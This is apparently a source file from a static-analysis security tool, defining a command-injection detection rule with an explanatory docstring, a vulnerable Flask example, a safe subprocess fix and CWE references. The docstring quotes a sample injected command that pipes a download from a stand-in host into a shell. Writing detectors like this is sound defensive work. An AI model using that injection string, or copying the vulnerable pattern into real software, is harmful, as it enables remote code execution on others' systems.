from __future__ import annotations

from secreview.findings import Confidence, Severity
from secreview.rules.base import FlowRule


class CommandInjectionFlow(FlowRule):
    """Untrusted input reaches a shell command line.

    ## What it does
    Follows data from where it enters the program (request parameters, URL parts, request
    bodies, environment, command-line arguments) through assignments, string building, containers,
    attributes and calls into helper functions in any module of the project, to the command line
    of `os.system`, `os.popen`, `subprocess.*(…, shell=True)` and the other shell sinks of the
    models. Values passed through `shlex.quote`, converted with `int()`, or checked against an
    allow-list before the call are clean.

    ## Why is this bad?
    Whoever controls part of a shell command line can add their own commands (`; curl evil | sh`).
    Remote input reaching a shell is critical; a command-line argument of a CLI tool reaching its
    own shell is reported as low, since the user running it already has a shell.

    ## Example
    ```python
    from flask import Flask, request
    from .utils import build_cmd, run

    app = Flask(__name__)

    @app.route("/archive")
    def archive():
        name = request.args["name"]
        run(build_cmd(name))          # utils.run() calls os.system(cmd)
    ```

    ## Use instead
    ```python
    import subprocess

    @app.route("/archive")
    def archive():
        name = request.args["name"]
        subprocess.run(["tar", "czf", f"/backups/{name}.tgz", "/srv/data"], check=True)
    ```

    ## References
    - https://cwe.mitre.org/data/definitions/78.html
    - https://owasp.org/www-community/attacks/Command_Injection
    """

    id = "SR901"
    slug = "command-injection"
    cwe = 78
    related_cwes = (77,)
    title = "Untrusted input reaches a shell command"
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    supersedes = ("SR201", "SR202")
    fix = (
        "pass the command as a list of arguments without a shell; if a shell is unavoidable, "
        "wrap each inserted value in shlex.quote(), or check it against an allow-list first"
    )
